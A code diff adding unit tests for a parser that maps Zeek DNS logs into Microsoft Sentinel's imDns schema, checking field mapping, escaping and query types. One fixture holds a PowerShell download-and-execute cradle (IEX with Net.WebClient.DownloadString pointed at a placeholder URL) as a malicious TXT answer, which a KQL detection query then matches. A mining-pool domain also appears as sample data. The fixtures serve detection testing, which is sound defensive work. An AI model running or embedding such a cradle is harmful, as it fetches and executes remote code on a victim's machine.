@@ -1,5 +1,6 @@
 import { beforeAll, describe, expect, test } from 'vitest';
-import { asimRecords, kqlTableColumns } from '../src/records/index.js';
+import { asimRecords, corelightDnsRow, dnsCorelightZeek, kqlTableColumns } from '../src/records/index.js';
+import { compileKql } from '../src/kql/index.js';
 import type { KqlRecord, RawEvent } from '../src/types.js';
 import { NEEDS_VENDOR } from '../../core/test/shared-data.js';
 import { HAVE_BOTH, HAVE_VENDOR, NEEDS_BOTH, SYSMON, TEAMVIEWER_NETWORK, regressionEvent, regressionEvents, type RegressionEvent } from './records-fixtures.js';
@@ -293,6 +294,111 @@ describe('Linux and macOS files (ASimFileEventMicrosoft365D.yaml)', () => {
     expect(kqlTableColumns('imNetworkSession')).toMatchObject({
       EventOriginalResultDetails: 'string', InitiatingProcessId: 'long', SrcProcessCreationTime: 'datetime', DstProcessCreationTime: 'datetime',
       DstUserAadId: 'string', SrcUserUpn: 'string', EventCount: 'int', DstPortNumber: 'int',
+    });
+  });
+});
+
+describe('Zeek dns.log -> Corelight_CL -> imDns (ASimDnsCorelightZeek.yaml @ 2d6149a6)', () => {
+  const zeek = { product: 'zeek', service: 'dns' } as const;
+  // The expected values below are read off the parser text by hand: :123 where, :124-149 parse-kv, :150 parse,
+  // :151-157 extend, :158-181 project-rename, :182-183 lookups, :184-192 extend, :195-201 aliases.
+  const MINER: RawEvent = { query: 'pool.minexmr.com', qtype_name: 'A', rcode_name: 'NOERROR', answers: ['1.2.3.4'], TTLs: [60], 'id.orig_h': '10.0.0.5', 'id.resp_p': 53, Z: 0 };
+
+  test('the Corelight_CL Message is the dns.log JSON line: record order, numbers derived from names, &default columns, TTLs as doubles', () => {
+    expect(corelightDnsRow(MINER, zeek)).toEqual({
+      TimeGenerated: null,
+      Message:
+        '{"_path":"dns","id.orig_h":"10.0.0.5","id.resp_p":53,"query":"pool.minexmr.com","qtype":1,"qtype_name":"A","rcode":0,"rcode_name":"NOERROR",' +
+        '"AA":false,"TC":false,"RD":false,"RA":false,"Z":0,"answers":["1.2.3.4"],"TTLs":[60.0],"rejected":false}',
+    });
+  });
+
+  test.skipIf(!HAVE_VENDOR)(`a Zeek dns event -> imDns ${NEEDS_VENDOR}`, () => {
+    const { table, row } = only(asimRecords(MINER, zeek));
+    expect(table).toBe('imDns');
+    expect(row).toMatchObject({
+      DnsQuery: 'pool.minexmr.com', Domain: 'pool.minexmr.com', DnsQueryType: 1, DnsQueryTypeName: 'A', DnsResponseCode: 0,
+      EventResultDetails: 'NOERROR', DnsResponseCodeName: 'NOERROR', EventSubType: 'response', EventResult: 'Success',
+      DnsResponseName: '{"answers":"[\\"1.2.3.4\\"]","ttls":"[60.0]"}',
+      SrcIpAddr: '10.0.0.5', Src: '10.0.0.5', IpAddr: '10.0.0.5', DstPortNumber: 53, SrcPortNumber: null, DstIpAddr: '', Dst: '',
+      DnsFlagsZ: false, DnsFlagsAuthoritative: false, DnsFlagsCheckingDisabled: null, DnsQueryClass: null, DnsQueryClassName: '',
+      DnsNetworkDuration: null, Duration: null, TransactionIdHex: '', EventStartTime: null, EventEndTime: null, Dvc: '',
+      EventProduct: 'Zeek', EventVendor: 'Corelight', EventSchema: 'Dns', EventSchemaVersion: '0.1.4', EventType: 'Query', EventCount: 1,
+    });
+    // projected away (:193, :202)
+    for (const gone of ['Message', 'rtt', 'Z', 'TTLs', 'answers', 'trans_id', 'rejected', '"query"']) expect(row).not.toHaveProperty(gone);
+  });
+
+  test.skipIf(!HAVE_VENDOR)(`answers without TTLs get one 0.0 TTL each (assumption zeek-dns-ttls) ${NEEDS_VENDOR}`, () => {
+    const { TTLs: _ttls, ...event } = MINER;
+    expect(only(asimRecords(event, zeek)).row['DnsResponseName']).toBe('{"answers":"[\\"1.2.3.4\\"]","ttls":"[0.0]"}');
+  });
+
+  test.skipIf(!HAVE_VENDOR)(`a generic category: dns event is read as Zeek dns.log (assumption dns-generic-as-zeek) ${NEEDS_VENDOR}`, () => {
+    const event: RawEvent = { query: 'evil.example', record_type: 'TXT', answer: 'IEX (New-Object Net.WebClient).DownloadString("http://x")' };
+    expect(corelightDnsRow(event, { category: 'dns' })!.Message).toBe(
+      '{"_path":"dns","query":"evil.example","qtype":16,"qtype_name":"TXT","AA":false,"TC":false,"RD":false,"RA":false,"Z":0,' +
+        String.raw`"answers":["IEX (New-Object Net.WebClient).DownloadString(\"http://x\")"],"TTLs":[0.0],"rejected":false}`,
+    );
+    const { table, row } = only(asimRecords(event, { category: 'dns' }));
+    expect(table).toBe('imDns');
+    expect(row).toMatchObject({
+      DnsQuery: 'evil.example', DnsQueryType: 16, DnsQueryTypeName: 'TXT',
+      // no rcode: a request, and `"" !~ 'NOERROR'` makes it a Failure (:185, :187)
+      EventSubType: 'request', EventResult: 'Failure', DnsResponseCode: null, EventResultDetails: '',
+      // the answers array as the line writes it (JSON escapes included), then JSON-escaped again as a bag value
+      DnsResponseName: String.raw`{"answers":"[\"IEX (New-Object Net.WebClient).DownloadString(\\\"http://x\\\")\"]","ttls":"[0.0]"}`,
+    });
+    const query = compileKql('imDns | where DnsQueryTypeName == "TXT" and DnsResponseName contains "IEX"');
+    expect(query.run({ imDns: { name: 'imDns', columns: kqlTableColumns('imDns')!, rows: [row] } }).rows).toHaveLength(1);
+  });
+
+  test.skipIf(!HAVE_VENDOR).each([
+    // a name Zeek does not know: the line keeps it, no number is written, so the parser has no type (:182, :188)
+    [{ qtype_name: 'BOGUS' }, '"qtype_name":"BOGUS"', null, ''],
+    // names are matched case-insensitively; Zeek's "*" is Microsoft's "ANY"
+    [{ qtype_name: 'ns' }, '"qtype":2,"qtype_name":"ns"', 2, 'NS'],
+    [{ qtype_name: '*' }, '"qtype":255,"qtype_name":"*"', 255, 'ANY'],
+    // a type Zeek names but Microsoft's table lacks: TYPE<n> (:188)
+    [{ qtype_name: 'HTTPS' }, '"qtype":65,"qtype_name":"HTTPS"', 65, 'TYPE65'],
+    // a number alone gets Zeek's &default name (consts.zeek:105), the parser TYPE<n>
+    [{ qtype: 9999 }, '"qtype":9999,"qtype_name":"query-9999"', 9999, 'TYPE9999'],
+  ] as const)(`query type %j -> %s, DnsQueryType %s, DnsQueryTypeName %j ${NEEDS_VENDOR}`, (fields, inLine, type, name) => {
+    const event: RawEvent = { query: 'x.example', ...fields };
+    expect(corelightDnsRow(event, zeek)!.Message).toContain(inLine);
+    expect(only(asimRecords(event, zeek)).row).toMatchObject({ DnsQueryType: type, DnsQueryTypeName: name });
+  });
+
+  test.skipIf(!HAVE_VENDOR)(`parse-kv reads every value as text: rtt to its first ".", JSON escapes as written, the first quote ends a value ${NEEDS_VENDOR}`, () => {
+    const event: RawEvent = { query: 'a\\b', rtt: 0.0068, trans_id: 300, ts: 1591367999.305988, uid: 'CFl2ra4eJhk9DpOFYk', 'id.orig_p': 57844, proto: 'udp', rcode_name: 'NXDOMAIN' };
+    expect(corelightDnsRow(event, zeek)).toEqual({
+      TimeGenerated: new Date('2020-06-05T14:39:59.306Z'),
+      Message:
+        '{"_path":"dns","ts":"2020-06-05T14:39:59.305988Z","uid":"CFl2ra4eJhk9DpOFYk","id.orig_p":57844,"proto":"udp","trans_id":300,"rtt":0.0068,' +
+        String.raw`"query":"a\\b","rcode":3,"rcode_name":"NXDOMAIN","AA":false,"TC":false,"RD":false,"RA":false,"Z":0,"rejected":false}`,
+    });
+    const { row } = only(asimRecords(event, zeek));
+    expect(row).toMatchObject({
+      DnsQuery: 'a\\\\b', DnsNetworkDuration: 0, Duration: 0, TransactionIdHex: '12c', EventOriginalUid: 'CFl2ra4eJhk9DpOFYk', SrcPortNumber: 57844,
+      NetworkProtocol: 'udp', DnsResponseCode: 3, EventResult: 'Failure', EventSubType: 'response', EventStartTime: new Date('2020-06-05T14:39:59.305Z'),
+      DnsResponseName: '{"answers":"","ttls":""}',
+    });
+    expect(only(asimRecords({ query: 'a"b', rtt: 2.5 }, zeek)).row).toMatchObject({ DnsQuery: 'a\\', DnsNetworkDuration: 2000 });
+    expect(only(asimRecords({ query: 'x', rcode_name: 'NOERROR', rejected: 'true' }, zeek)).row['EventResult']).toBe('Failure');
+  });
+
+  test('a Message that is not a dns log gives no row (:123), nor does another Zeek log or another source', () => {
+    expect(dnsCorelightZeek({ TimeGenerated: null, Message: '{"_path":"conn","uid":"C1","id.orig_h":"10.0.0.5","query":"x"}' })).toBeUndefined();
+    expect(dnsCorelightZeek({ TimeGenerated: null, Message: '{"_path":"dns","query":"x"}' })).toMatchObject({ DnsQuery: 'x' });
+    expect(corelightDnsRow({ query: 'x' }, { product: 'zeek', service: 'http' })).toBeUndefined();
+    expect(corelightDnsRow({ query: 'x' }, { product: 'windows', category: 'dns_query' })).toBeUndefined();
+  });
+
+  test.skipIf(!HAVE_VENDOR)(`view columns: the parser's columns, typed by its casts ${NEEDS_VENDOR}`, () => {
+    expect(kqlTableColumns('imDns')).toMatchObject({
+      DnsResponseName: 'string', DnsQueryTypeName: 'string', DnsQueryClassName: 'string', TransactionIdHex: 'string', EventSubType: 'string',
+      EventOriginalUid: 'string', Dvc: 'string', Duration: 'int', DnsNetworkDuration: 'int', DnsFlagsZ: 'bool', DnsFlagsCheckingDisabled: 'bool',
+      DnsQueryType: 'int', DnsQueryClass: 'int', EventStartTime: 'datetime', EventEndTime: 'datetime', TimeGenerated: 'datetime',
     });
   });
 });
